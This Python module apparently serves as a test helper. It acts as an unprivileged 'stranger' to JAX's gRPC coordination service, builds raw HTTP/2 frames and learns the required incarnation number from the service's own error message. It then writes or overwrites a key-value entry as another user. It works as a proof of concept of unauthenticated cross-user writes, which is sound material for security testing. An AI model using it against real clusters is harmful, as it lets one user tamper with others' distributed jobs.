"""A stranger at JAX's coordinator: writes a value under a key, as another user.

``coordinator_stranger.py ADDRESS KEY HEX``. It speaks gRPC over HTTP/2 with the standard library
alone; the messages are those of JAX 0.10 (xla/coordination/coordination_service.proto).
"""

from __future__ import annotations

import os
import re
import socket
import struct
import subprocess
import sys

__all__ = ["USER", "put"]

USER = 65534
_METHOD = "/xla.coordination.CoordinationService/InsertKeyValue"
_END_HEADERS, _END_STREAM = 4, 1
_DATA, _HEADERS, _SETTINGS = 0, 1, 4


def put(address: str, key: str, value: bytes, *before: str) -> None:
    """Run this program as ``USER``; ``before``: the words that enter a host of a network."""
    subprocess.run(
        [*before, sys.executable, "-IS", __file__, address, key, value.hex()], check=True
    )


def _frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def _field(number: int, data: bytes) -> bytes:
    size, length = len(data), b""
    while size > 127:
        length, size = length + bytes([size & 127 | 128]), size >> 7
    return bytes([number << 3 | 2]) + length + bytes([size]) + data


def _answer(address: str, request: bytes) -> bytes:
    """What the service answers to the call, as far as its status."""
    names = {
        ":method": "POST", ":scheme": "http", ":path": _METHOD, ":authority": address,
        "te": "trailers", "content-type": "application/grpc",
    }  # fmt: skip
    pairs = [(name.encode(), value.encode()) for name, value in names.items()]
    headers = b"".join(b"\0%c%b%c%b" % (len(n), n, len(v), v) for n, v in pairs)
    data = b"\0" + struct.pack(">I", len(request)) + request
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), 10) as connection:
        connection.sendall(
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
            + _frame(_SETTINGS, 0, 0)
            + _frame(_HEADERS, _END_HEADERS, 1, headers)
            + _frame(_DATA, _END_STREAM, 1, data)
        )
        answer = b""
        while not re.search(rb"grpc-status..", answer, re.DOTALL):
            answer += connection.recv(65536) or b"grpc-status: the connection was closed"
        return answer


def _main(address: str, key: str, value: str) -> None:
    "loads the codec".encode("idna")  # its file may be one that the other user cannot read
    os.setgid(USER)
    os.setuid(USER)
    entry = _field(2, _field(1, key.encode()) + _field(2, bytes.fromhex(value)))
    entry += b"\x18\1"  # it may replace another value
    # The service refuses a caller that does not name its incarnation, and says what that is.
    refused = re.search(rb"currently (\d+)", _answer(address, entry))
    assert refused, "the service has let a caller in that knows nothing"
    incarnation = b"\x19" + struct.pack("<Q", int(refused[1]))
    answer = _answer(address, _field(1, incarnation) + entry)
    assert b"grpc-status\x010" in answer, answer


if __name__ == "__main__":
    _main(*sys.argv[1:])
